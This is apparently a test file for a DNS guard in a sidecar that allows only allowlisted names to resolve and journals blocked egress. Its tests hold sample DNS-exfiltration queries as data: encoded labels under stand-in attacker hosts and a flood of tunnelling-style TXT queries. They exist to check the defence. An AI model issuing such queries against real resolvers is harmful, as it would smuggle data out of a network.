// The DNS guard: names the skill may reach are resolved by the pod's resolver, bytes unchanged, over
// UDP and TCP; every other name is answered NXDOMAIN by the guard itself and never reaches a
// resolver (the DNS exfiltration channel), and is journaled as an egress attempt. Pure parts first,
// then the guard in a real sidecar against a real resolver stand-in on loopback.
import dgram from 'node:dgram';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Resolver } from 'node:dns/promises';
import net from 'node:net';
import { startSidecar, type EgressAttempt, type Sidecar } from '../src/index.js';
import { createLogger } from '../src/log.js';
import { logJournal } from '../src/ports/journal.js';
import { EgressAllowlist } from '../src/egress/allowlist.js';
import { decideName, parseResolvConf } from '../src/egress/dns.js';
import { DenialBudget } from '../src/denial-budget.js';
import { RCODE, answerWith, parseQuery } from '../src/egress/dns-message.js';

/** Names the journal accounts for: one per event, or the count of a summary event. */
function recorded(attempts: EgressAttempt[]): number {
  return attempts.reduce((n, a) => n + (a.method === 'refused' ? Number(/^(\d+) more attempts$/.exec(a.destination)?.[1] ?? 0) : a.method.startsWith('DNS ') ? 1 : 0), 0);
}

/** A DNS query as a stub resolver writes it (RD set, optionally an EDNS OPT record). */
function query(name: string, qtype = 1, id = 0x1234, edns = false): Buffer {
  const labels = name.split('.').filter(Boolean).map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'latin1')]));
  const header = Buffer.alloc(12);
  header.writeUInt16BE(id, 0);
  header.writeUInt16BE(0x0100, 2);
  header.writeUInt16BE(1, 4);
  header.writeUInt16BE(edns ? 1 : 0, 10);
  const tail = Buffer.alloc(4);
  tail.writeUInt16BE(qtype, 0);
  tail.writeUInt16BE(1, 2);
  const opt = edns ? Buffer.from([0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0]) : Buffer.alloc(0);
  return Buffer.concat([header, ...labels, Buffer.from([0]), tail, opt]);
}

/**
 * A resolver stand-in's two halves on one loopback port: a UDP socket and a TCP server. The port the
 * UDP bind picks may be taken for TCP (a client socket of another test holds it), so both pick
 * again then, as the guard itself does.
 */
async function resolverStandIn(onUdp: (udp: dgram.Socket, msg: Buffer, from: dgram.RemoteInfo) => void, onTcp: (sock: net.Socket) => void): Promise<{ udp: dgram.Socket; tcp: net.Server; port: number }> {
  for (let attempt = 1; ; attempt++) {
    const udp = dgram.createSocket('udp4');
    udp.on('message', (msg, from) => onUdp(udp, msg, from));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    const port = udp.address().port;
    const tcp = net.createServer(onTcp);
    try {
      await new Promise<void>((resolve, reject) => {
        tcp.once('error', reject);
        tcp.listen(port, '127.0.0.1', () => { tcp.off('error', reject); resolve(); });
      });
      return { udp, tcp, port };
    } catch (err) {
      udp.close();
      if ((err as NodeJS.ErrnoException).code !== 'EADDRINUSE' || attempt >= 20) throw err;
    }
  }
}

/** Waits (polling every 10 ms, up to 5 s) until `done()`. */
async function until(done: () => boolean): Promise<void> {
  for (let waited = 0; !done() && waited < 5000; waited += 10) await new Promise((r) => setTimeout(r, 10));
}

describe('DNS messages', () => {
  test('the question of a query is read, lower-cased, with the EDNS record left alone', () => {
    const q = parseQuery(query('API.GitHub.com', 28, 7, true));
    expect(q).toMatchObject({ id: 7, name: 'api.github.com', qtype: 28, qclass: 1, end: 12 + 16 + 4 });
  });

  test('the guard\'s own answer echoes id, RD and the question, with no records and the rcode', () => {
    const msg = query('exfil.attacker.example', 1, 0xbeef, true);
    const q = parseQuery(msg);
    const out = answerWith(msg, q, RCODE.nxDomain);
    expect(out.readUInt16BE(0)).toBe(0xbeef);
    expect(out.readUInt16BE(2)).toBe(0x8183); // QR, RD, RA, NXDOMAIN
    expect([out.readUInt16BE(4), out.readUInt16BE(6), out.readUInt16BE(8), out.readUInt16BE(10)]).toEqual([1, 0, 0, 0]);
    expect(out.subarray(12)).toEqual(msg.subarray(12, q.end));
  });

  test.each([
    [Buffer.alloc(5), /shorter than a DNS header/, undefined],
    [(() => { const m = query('a.b'); m.writeUInt16BE(0x8100, 2); return m; })(), /a response/, 0x1234],
    [(() => { const m = query('a.b'); m.writeUInt16BE(0x2800, 2); return m; })(), /opcode/, 0x1234],
    [(() => { const m = query('a.b'); m.writeUInt16BE(2, 4); return m; })(), /exactly one question/, 0x1234],
    [query('a.b').subarray(0, 15), /truncated/, 0x1234],
    [Buffer.concat([query('a').subarray(0, 12), Buffer.from([0xc0, 12, 0, 1, 0, 1])]), /compressed/, 0x1234],
    [query(Array.from({ length: 5 }, () => 'x'.repeat(60)).join('.')), /longer than 255/, 0x1234],
    // ["api.github", "com"]: joined it reads as an allowed name, but the resolver would look up another.
    [Buffer.concat([query('a').subarray(0, 12), Buffer.from([10]), Buffer.from('api.github'), Buffer.from([3]), Buffer.from('com'), Buffer.from([0, 0, 1, 0, 1])]), /dot inside a label/, 0x1234],
  ])('a message that is not one standard query is refused: %#', (msg, message, id) => {
    expect(() => parseQuery(msg)).toThrow(message);
    try { parseQuery(msg); } catch (err) { expect((err as { id?: number }).id).toBe(id); }
  });
});

describe('which names resolve', () => {
  const list = new EgressAllowlist(['api.github.com:443', '*.example.org']);
  const search = ['team-a.svc.cluster.local', 'svc.cluster.local', 'cluster.local'];
  test.each([
    ['api.github.com', 'allowed'],
    ['files.example.org', 'allowed'],
    ['example.org', 'denied'],
    ['api.anthropic.com', 'allowed'], // the Claude upstream: the capture hands it to the sidecar
    ['api.github.com.team-a.svc.cluster.local', 'search'],
    ['api.anthropic.com.cluster.local', 'search'],
    ['c3RvbGVuIGRhdGE.attacker.example', 'denied'],
    ['c3RvbGVuIGRhdGE.attacker.example.svc.cluster.local', 'denied'],
    ['redis.team-a.svc.cluster.local', 'denied'],
    ['', 'denied'],
  ])('%s is %s', (name, decision) => {
    expect(decideName(name, list, 'api.anthropic.com', search)).toBe(decision);
  });

  test('resolv.conf gives the first IPv4 nameserver and the search list', () => {
    expect(parseResolvConf('# generated\nsearch team-a.svc.cluster.local svc.cluster.local cluster.local.\nnameserver fd00::a\nnameserver 10.96.0.10 ; kube-dns\nnameserver 10.96.0.11\noptions ndots:5\n'))
      .toEqual({ resolver: { host: '10.96.0.10', port: 53 }, searchDomains: ['team-a.svc.cluster.local', 'svc.cluster.local', 'cluster.local'] });
    expect(parseResolvConf('')).toEqual({ searchDomains: [] });
  });
});

describe('the journal budget for refused egress', () => {
  test('so many a second one by one; the rest counted, and the count handed on when the next second begins', () => {
    let now = 5_000;
    const budget = new DenialBudget(3, () => now);
    expect([1, 2, 3, 4, 5].map(() => budget.take())).toEqual([
      { journal: true, flushed: 0 }, { journal: true, flushed: 0 }, { journal: true, flushed: 0 },
      { journal: false, flushed: 0 }, { journal: false, flushed: 0 },
    ]);
    now = 6_200;
    expect(budget.take()).toEqual({ journal: true, flushed: 2 });
    expect(budget.drain()).toBe(0);
    for (let i = 0; i < 4; i++) budget.take();
    expect(budget.drain()).toBe(2);
    expect(budget.drain()).toBe(0);
  });
});

describe('the DNS guard in a sidecar', () => {
  /** The pod's resolver: answers every A query with 192.0.2.7, over UDP and TCP, and remembers the names. */
  const seen: string[] = [];
  let udp: dgram.Socket;
  let tcp: net.Server;
  let resolverPort: number;
  let sidecar: Sidecar;
  const attempts: EgressAttempt[] = [];

  function answerA(msg: Buffer): Buffer {
    const q = parseQuery(msg);
    seen.push(q.name);
    const head = Buffer.from(msg.subarray(0, q.end));
    head.writeUInt16BE(0x8180, 2);
    head.writeUInt16BE(1, 6);
    head.writeUInt16BE(0, 10);
    const rr = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]);
    return Buffer.concat([head, rr]);
  }

  beforeAll(async () => {
    ({ udp, tcp, port: resolverPort } = await resolverStandIn(
      (sock, msg, from) => sock.send(answerA(msg), from.port, from.address),
      (s) => s.once('data', (d: Buffer) => {
        const out = answerA(d.subarray(2, 2 + d.readUInt16BE(0)));
        const len = Buffer.alloc(2);
        len.writeUInt16BE(out.length);
        s.end(Buffer.concat([len, out]));
      }),
    ));
    const resolvConf = join(mkdtempSync(join(tmpdir(), 'sg-dns-')), 'resolv.conf');
    writeFileSync(resolvConf, 'nameserver 10.96.0.10\nsearch team-a.svc.cluster.local svc.cluster.local cluster.local\noptions ndots:5\n');
    sidecar = await startSidecar({
      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', dnsResolver: `127.0.0.1:${resolverPort}`, resolvConfFile: resolvConf,
      listen: { claude: 0, egress: 0, dns: 0, health: 0, metrics: 0, adminHost: '127.0.0.1' },
    }, {
      logger: createLogger('silent'),
      egressAllowHosts: () => ['api.github.com:443', '*.partner.example:443'],
      journal: (l) => ({ ...logJournal(l), egress: (a) => void attempts.push(a) }),
    });
  });
  afterAll(async () => {
    await sidecar.close();
    udp.close();
    await new Promise((r) => tcp.close(r));
  });

  test('an allowed name is resolved by the pod\'s resolver; any other gets NXDOMAIN from the guard and is journaled', async () => {
    const resolver = new Resolver({ timeout: 2000, tries: 1 });
    resolver.setServers([`127.0.0.1:${sidecar.dnsPort}`]);
    expect(await resolver.resolve4('api.github.com')).toEqual(['192.0.2.7']);
    expect(await resolver.resolve4('api.anthropic.com')).toEqual(['192.0.2.7']);
    await expect(resolver.resolve4('Y3VzdG9tZXItNDQxMQ.exfil.attacker.example')).rejects.toMatchObject({ code: 'ENOTFOUND' });
    await expect(resolver.resolveTxt('api.github.com.evil.example')).rejects.toMatchObject({ code: 'ENOTFOUND' });
    // A search-list expansion of an allowed name (what a short service name needs) is resolved too.
    expect(await resolver.resolve4('api.github.com.svc.cluster.local')).toEqual(['192.0.2.7']);
    expect(seen).toEqual(['api.github.com', 'api.anthropic.com', 'api.github.com.svc.cluster.local']);
    expect(attempts).toEqual([
      expect.objectContaining({ method: 'DNS A', destination: 'y3vzdg9tzxitndqxmq.exfil.attacker.example', allowed: false, reason: expect.stringContaining('answered NXDOMAIN in the pod') }),
      expect.objectContaining({ method: 'DNS TXT', destination: 'api.github.com.evil.example', allowed: false }),
    ]);
    const metrics = await (await fetch(sidecar.metricsUrl + '/metrics')).text();
    expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="allowed"} 2');
    expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="denied"} 2');
    expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="search"} 1');
  });

  test('a name under an allowlisted wildcard is resolved and journaled (its labels are the skill\'s to write); a name the allowlist names itself is not', async () => {
    const resolver = new Resolver({ timeout: 2000, tries: 1 });
    resolver.setServers([`127.0.0.1:${sidecar.dnsPort}`]);
    attempts.length = 0;
    expect(await resolver.resolve4('637573746f6d65722d73736e.t.partner.example')).toEqual(['192.0.2.7']);
    expect(await resolver.resolve4('api.github.com')).toEqual(['192.0.2.7']);
    expect(attempts).toEqual([
      expect.objectContaining({ method: 'DNS A', destination: '637573746f6d65722d73736e.t.partner.example', allowed: true, reason: expect.stringContaining('under a wildcard of the egress allowlist') }),
    ]);
  });

  test('over TCP the same, framed; a malformed query gets FORMERR and nothing is forwarded', async () => {
    const ask = (msg: Buffer): Promise<Buffer> => new Promise((resolve, reject) => {
      const s = net.connect(sidecar.dnsPort, '127.0.0.1');
      const len = Buffer.alloc(2);
      len.writeUInt16BE(msg.length);
      s.end(Buffer.concat([len, msg]));
      const chunks: Buffer[] = [];
      s.on('data', (c: Buffer) => {
        chunks.push(c);
        const all = Buffer.concat(chunks);
        if (all.length >= 2 && all.length >= all.readUInt16BE(0) + 2) { s.destroy(); resolve(all.subarray(2)); }
      });
      s.on('error', reject);
    });
    seen.length = 0;
    const ok = await ask(query('api.github.com', 1, 0x4242));
    expect(ok.readUInt16BE(0)).toBe(0x4242);
    expect(ok.readUInt16BE(2) & 0xf).toBe(0);
    expect(ok.subarray(-4)).toEqual(Buffer.from([192, 0, 2, 7]));
    const denied = await ask(query('secret.attacker.example', 1, 0x4343));
    expect(denied.readUInt16BE(2) & 0xf).toBe(RCODE.nxDomain);
    const bad = query('api.github.com', 1, 0x4444);
    bad.writeUInt16BE(3, 4);
    const formErr = await ask(bad);
    expect([formErr.readUInt16BE(0), formErr.readUInt16BE(2) & 0xf]).toEqual([0x4444, RCODE.formErr]);
    expect(seen).toEqual(['api.github.com']);
  });

  test('with no resolver to forward to, allowed names get SERVFAIL rather than going anywhere else', async () => {
    const lonely = await startSidecar({
      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', resolvConfFile: '/nonexistent/resolv.conf',
      listen: { claude: 0, egress: 0, dns: 0, health: 0, metrics: 0, adminHost: '127.0.0.1' }, logLevel: 'silent',
    }, { egressAllowHosts: () => ['api.github.com'] });
    try {
      const sock = dgram.createSocket('udp4');
      const answer = await new Promise<Buffer>((resolve) => {
        sock.once('message', (m) => resolve(m));
        sock.send(query('api.github.com'), lonely.dnsPort, '127.0.0.1');
      });
      sock.close();
      expect(answer.readUInt16BE(2) & 0xf).toBe(RCODE.servFail);
    } finally {
      await lonely.close();
    }
  });

  test('a resolver that misbehaves (another id first, two answers, an empty TCP frame) costs a query at worst, never the guard', async () => {
    const { udp: rude, tcp: rudeTcp, port } = await resolverStandIn(
      (sock, msg, from) => {
        const good = Buffer.from(msg);
        good.writeUInt16BE(0x8180, 2);
        const wrongId = Buffer.from(good);
        wrongId.writeUInt16BE(msg.readUInt16BE(0) ^ 0xffff, 0);
        for (const out of [wrongId, good, good]) sock.send(out, from.port, from.address);
      },
      (sock) => sock.once('data', () => sock.end(Buffer.from([0, 0]))),
    );
    const guarded = await startSidecar({
      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', dnsResolver: `127.0.0.1:${port}`,
      listen: { claude: 0, egress: 0, dns: 0, health: 0, metrics: 0, adminHost: '127.0.0.1' }, logLevel: 'silent',
    }, { egressAllowHosts: () => ['api.github.com'] });
    try {
      const sock = dgram.createSocket('udp4');
      const answers: Buffer[] = [];
      sock.on('message', (m) => answers.push(m));
      sock.send(query('api.github.com', 1, 0x7777), guarded.dnsPort, '127.0.0.1');
      await until(() => answers.length > 0);
      // A second query as a barrier: a repeated answer to the first would come before its answer.
      sock.send(query('api.github.com', 1, 0x7778), guarded.dnsPort, '127.0.0.1');
      await until(() => answers.some((a) => a.readUInt16BE(0) === 0x7778));
      sock.close();
      expect(answers.map((a) => a.readUInt16BE(0))).toEqual([0x7777, 0x7778]);
      const viaTcp = await new Promise<Buffer>((resolve, reject) => {
        const q = query('api.github.com', 1, 0x7878);
        const len = Buffer.alloc(2);
        len.writeUInt16BE(q.length);
        const c = net.connect(guarded.dnsPort, '127.0.0.1', () => c.write(Buffer.concat([len, q])));
        c.on('data', (d: Buffer) => { c.destroy(); resolve(d.subarray(2)); });
        c.on('error', reject);
      });
      expect([viaTcp.readUInt16BE(0), viaTcp.readUInt16BE(2) & 0xf]).toEqual([0x7878, RCODE.servFail]);
    } finally {
      await guarded.close();
      rude.close();
      await new Promise((r) => rudeTcp.close(r));
    }
  });

  test('a flood of refused names is all refused, journaled one by one up to the budget and then as a count', async () => {
    const flooded: EgressAttempt[] = [];
    const guarded = await startSidecar({
      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', dnsResolver: `127.0.0.1:${resolverPort}`, refusalsPerSecond: 5,
      listen: { claude: 0, egress: 0, dns: 0, health: 0, metrics: 0, adminHost: '127.0.0.1' },
    }, { logger: createLogger('silent'), journal: (l) => ({ ...logJournal(l), egress: (a) => void flooded.push(a) }) });
    try {
      const sock = dgram.createSocket('udp4');
      const answers: Buffer[] = [];
      sock.on('message', (m) => answers.push(m));
      const firstSecond = Math.floor(Date.now() / 1000);
      for (let i = 0; i < 40; i++) sock.send(query(`chunk${i}.tunnel.attacker.example`, 16, i), guarded.dnsPort, '127.0.0.1');
      for (let waited = 0; answers.length < 40 && waited < 3000; waited += 20) await new Promise((r) => setTimeout(r, 20));
      // Each name was journaled (one by one or counted) as it was refused, before its answer came.
      const seconds = Math.floor(Date.now() / 1000) - firstSecond + 1; // the budget's seconds the flood spanned
      expect(answers.map((a) => a.readUInt16BE(2) & 0xf)).toEqual(Array(40).fill(RCODE.nxDomain));
      // Within a second or two (the flood may straddle a second), every name is accounted for.
      for (let waited = 0; waited < 2500 && recorded(flooded) < 40; waited += 50) await new Promise((r) => setTimeout(r, 50));
      sock.close();
      expect(recorded(flooded)).toBe(40);
      const oneByOne = flooded.filter((a) => a.method === 'DNS TXT');
      expect(oneByOne.length).toBeGreaterThanOrEqual(5);
      expect(oneByOne.length).toBeLessThanOrEqual(5 * seconds);
      expect(flooded.find((a) => a.method === 'refused')).toMatchObject({ allowed: false, destination: expect.stringMatching(/^\d+ more attempts$/), reason: expect.stringContaining('past the 5 a second recorded one by one') });
    } finally {
      await guarded.close();
    }
    expect(seen.filter((n) => n.includes('attacker'))).toEqual([]);
  });

  test('a DNS port that is taken fails start-up, and leaves nothing listening', async () => {
    const squatter = net.createServer();
    await new Promise<void>((r) => squatter.listen(0, '127.0.0.1', r));
    const port = (squatter.address() as net.AddressInfo).port;
    try {
      await expect(startSidecar({
        upstreamUrl: 'http://127.0.0.1:1', upstreamApiKey: 'k', logLevel: 'silent',
        listen: { claude: 0, egress: 0, dns: port, health: 0, metrics: 0, adminHost: '127.0.0.1' },
      })).rejects.toMatchObject({ code: 'EADDRINUSE' });
      // The UDP half was released: it can be bound again.
      const udp = dgram.createSocket('udp4');
      await new Promise<void>((resolve, reject) => { udp.once('error', reject); udp.bind(port, '127.0.0.1', () => resolve()); });
      udp.close();
    } finally {
      await new Promise((r) => squatter.close(r));
    }
  });

  test('a resolver given in the environment must be an IPv4 address', async () => {
    await expect(startSidecar({ upstreamUrl: 'http://127.0.0.1:1', upstreamApiKey: 'k', dnsResolver: 'kube-dns.kube-system' }))
      .rejects.toThrow(/dnsResolver: must be an IPv4 address with an optional port \(SKILLGATE_DNS_RESOLVER/);
  });
});
